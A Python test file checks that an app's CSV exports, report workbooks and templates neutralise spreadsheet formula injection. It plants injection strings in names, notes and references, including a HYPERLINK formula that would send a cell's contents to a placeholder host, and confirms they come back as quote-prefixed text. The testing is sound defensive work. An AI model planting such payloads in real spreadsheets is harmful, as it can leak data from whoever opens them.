"""Every CSV and workbook we write keeps text that a spreadsheet would run as text (issue 11, «Small leaks»).

One test per writer. Each plants the same six openings in names, notes and references, writes the file
through the path a user takes (command line, service, export), reads it back and checks: no cell is a
formula, each planted text is there as written (workbooks: stored as text with Excel's quote prefix;
CSV: with a leading apostrophe), and genuine numbers, negative amounts included, stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from openpyxl import load_workbook

from app.cli import main
from tests.conftest import PASSWORD

ATTACKS = ('=HYPERLINK("http://x.example/?"&A1,"باز کنید")', "+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
STARTS = ("=", "+", "-", "@", "\t", "\r")


def planted_cases(make_case):
    """Six files, each with one attack in its first name, last name and father's name."""
    return [make_case(first_name=a, last_name=a, father_name=a, received_on="1405/01/15") for a in ATTACKS]


def cells_of(raw: bytes):
    book = load_workbook(io.BytesIO(raw))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_workbook_safe(raw: bytes, planted) -> list:
    """No formula anywhere; every formula-looking text is quote-prefixed text; the planted text is there."""
    cells = cells_of(raw)
    assert all(c.data_type != "f" for c in cells)
    looking = [c for c in cells if isinstance(c.value, str) and c.value.startswith(STARTS)]
    assert looking and all(c.data_type == "s" and c.quotePrefix for c in looking)
    texts = {c.value for c in looking}
    for attack in planted:
        assert any(attack.strip() in t for t in texts), attack
    return cells


# -- CSV: `parvandeh cases list --format csv` ---------------------------------------------------------------

def test_cases_list_csv_neutralises_every_opening(ctx, data_dir, make_case, monkeypatch, capsys):
    planted_cases(make_case)
    monkeypatch.delenv("PARVANDEH_DATA_DIR", raising=False)

    def run(fmt: str) -> str:
        monkeypatch.setattr("sys.stdin", io.StringIO(PASSWORD + "\n"))
        assert main(["cases", "list", "--format", fmt, "--limit", "50", "--data-dir", str(data_dir),
                     "--user", "boss"]) == 0
        return capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(run("csv"))))
    stored = json.loads(run("json"))
    header, body = rows[0], rows[1:]
    assert len(body) == len(stored) == len(ATTACKS)
    for line, record in zip(body, stored):
        for column, cell in zip(header, line):
            value = str(record[column] or "")
            # The same rule for every cell: text opening like a formula gets one leading apostrophe.
            assert cell == ("'" + value if value.startswith(STARTS) else value), (column, cell)
            assert not cell.startswith(STARTS)
    assert {r["first_name"] for r in stored} & {a.strip() for a in ATTACKS}  # the attacks were really stored


# -- the monthly report's embedded workbook ----------------------------------------------------------------

def test_monthly_report_workbook_keeps_planted_names_and_notes_as_text(ctx, contract, make_case):
    from app.services import reports
    from app.services.visits import ServiceInput, add_service
    for case, attack in zip(planted_cases(make_case), ATTACKS):
        add_service(ctx, case.id, ServiceInput(kind="care", mode="home_visit", note=attack, domains=["health"],
                                               minutes=30, date="1405/08/10"))
    doc = reports.generate_monthly(ctx, contract.id, 1405, 8)
    cells = assert_workbook_safe(doc.xlsx, [a for a in ATTACKS if a.strip()[0] in "=+-@"])
    minutes = [c for c in cells if c.value == 30]
    assert minutes and all(c.data_type == "n" for c in minutes)  # numbers stay numbers


# -- the receivables export and the letter's workbook -------------------------------------------------------

def test_receivables_export_keeps_planted_references_as_text_and_negative_amounts_as_numbers(ctx, contract):
    from app.services import payments as pay
    from app.services.receivables import export_xlsx
    from tests.services.test_payments import make_invoice
    make_invoice(ctx, contract.id, 1405, 4, 900_000_000, delivered="1405/05/05")
    ids = [pay.add_payment(ctx, pay.PaymentInput(contract_id=contract.id, paid_on="1405/08/01", amount_rials=1_000_000,
                                                 bank_reference=f"ref{i}", note=attack)).id
           for i, attack in enumerate(ATTACKS)]
    pay.reverse_payment(ctx, ids[0], "=HYPERLINK(\"http://x\",\"دلیل\")", on="1405/08/02")
    out = io.BytesIO()
    export_xlsx(ctx, out)
    cells = assert_workbook_safe(out.getvalue(), [a for a in ATTACKS if a.strip()[0] in "=+-@"])
    negative = [c for c in cells if c.value == -1_000_000]
    assert negative and all(c.data_type == "n" for c in negative)  # a reversal's amount is a number


def test_receivables_letter_workbook_keeps_a_planted_office_name_as_text(ctx):
    from app.services import reports
    from app.services.contracts import ContractInput, create_contract
    from app.services.receivables import generate_receivables_letter
    from tests.services.test_payments import make_invoice
    office = "=HYPERLINK(\"http://x.example\",\"اداره\")"
    contract = create_contract(ctx, ContractInput(office_name=office, number="-1405", start_date="1405/01/01",
                                                  end_date="1405/12/29", fee_per_case_month_rials=1_000, capacity=5))
    make_invoice(ctx, contract.id, 1405, 4, 5_000_000, delivered="1405/05/05")
    reports.create_signing_key(ctx, PASSWORD)
    doc = generate_receivables_letter(ctx, office, sign_password=PASSWORD)
    cells = cells_of(doc.xlsx)
    assert all(c.data_type != "f" for c in cells)
    looking = [c for c in cells if isinstance(c.value, str) and c.value.startswith(STARTS)]
    assert looking and all(c.data_type == "s" and c.quotePrefix for c in looking)


# -- the county office's workbook ----------------------------------------------------------------------------

def test_office_summary_workbook_keeps_every_planted_text_as_text(tmp_path):
    from app.office.export import summary_xlsx
    from app.office.summary import ClinicMonth, CountyTotal, Finding, Missing, MonthSummary
    rows = [ClinicMonth(county=a, clinic=a, licence=a, contract=a, capacity=10, fee_rials=1_000, report_id=a,
                        correction_number=0, received_on=dt.date(2026, 11, 1), late=False, active_at_start=1,
                        active_at_end=1, new_files=0, closed_files=0, returned_files=0, total_services=2,
                        services_by_kind={a: 2}, services_by_mode={a: 2}, home_visits=1, home_visits_per_file=1.0,
                        reviews_done=0, reviews_due=0, reviews_overdue=0, abuse_concerns=0, referrals=0,
                        payable_case_months=1, invoice_id=a, amount_invoiced_rials=-5_000)
            for a in ATTACKS]
    summary = MonthSummary(1405, 8, rows=rows,
                           missing=[Missing(a, a, a, a) for a in ATTACKS],
                           counties=[CountyTotal(a, 1, 1, 10, 1, 2, 1, 0, 0, 0, -5_000) for a in ATTACKS],
                           findings=[Finding("late", a, a, a, a) for a in ATTACKS],
                           services_by_kind={a: 2 for a in ATTACKS}, services_by_mode={a: 2 for a in ATTACKS})
    out = tmp_path / "office.xlsx"
    summary_xlsx(summary, out)
    cells = assert_workbook_safe(out.read_bytes(), ATTACKS)
    assert all(c.data_type == "n" for c in cells if c.value == -5_000)


# -- the import template -------------------------------------------------------------------------------------

def test_import_template_has_no_formula_and_no_formula_looking_header(tmp_path):
    from app.services.importing import write_template
    cells = cells_of(write_template(tmp_path / "template.xlsx").read_bytes())
    assert cells and all(c.data_type != "f" for c in cells)
    assert not any(isinstance(c.value, str) and c.value.startswith(STARTS) for c in cells)


def test_the_cell_rule_itself():
    from app.printing.cells import safe_cell
    assert [safe_cell(a) for a in ATTACKS] == ["'" + a for a in ATTACKS]
    assert safe_cell(-5) == -5 and safe_cell(-1.5) == -1.5 and safe_cell("علی") == "علی" and safe_cell(None) is None


@pytest.mark.parametrize("writer", ["cases list --format csv"])
def test_only_one_csv_writer_exists(writer):
    """If another CSV writer appears, it needs its own test above (and safe_cell)."""
    import pathlib
    import re
    root = pathlib.Path(__file__).resolve().parents[1] / "app"
    writers = [p.relative_to(root).as_posix() for p in root.rglob("*.py") if re.search(r"csv\.(writer|DictWriter)\(",
                                                                                        p.read_text("utf-8"))]
    assert writers == ["cli/__init__.py"], writers
